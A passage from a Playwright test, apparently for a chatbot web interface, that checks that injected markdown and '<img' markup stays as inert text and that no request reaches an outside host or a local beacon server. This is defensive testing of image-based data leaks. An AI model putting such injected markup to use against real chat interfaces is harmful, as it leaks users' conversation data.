        # Kept as typed in the history too (it was stored with its tags stripped), and listed as text.
        # (The list cuts it at a word: "… and <img…".)
        pg.locator("#conversations button").filter(has_text=f"{md_image} and <img").first.wait_for(timeout=30_000)
        assert pg.locator("#conversations img").count() == 0
        for c in range(pg.locator("#cards button").count()):
            pg.locator("#cards button").nth(c).click()
        pg.wait_for_timeout(1500)
        assert pg.locator("#chatbot img, #cards img").count() == 0
        assert_no_errors(pg, "showing hostile text")
        _shot(pg, "web_hostile_text.png")
    finally:
        context.close()
        beacon.close()
        bot.remove(["beacon_ledger.pdf"])
    outside = [r for r in requests if not r.startswith(("data:", "blob:"))
               and urlsplit(r).netloc != origin.netloc]
    assert not outside, outside
    assert beacon.hits == []
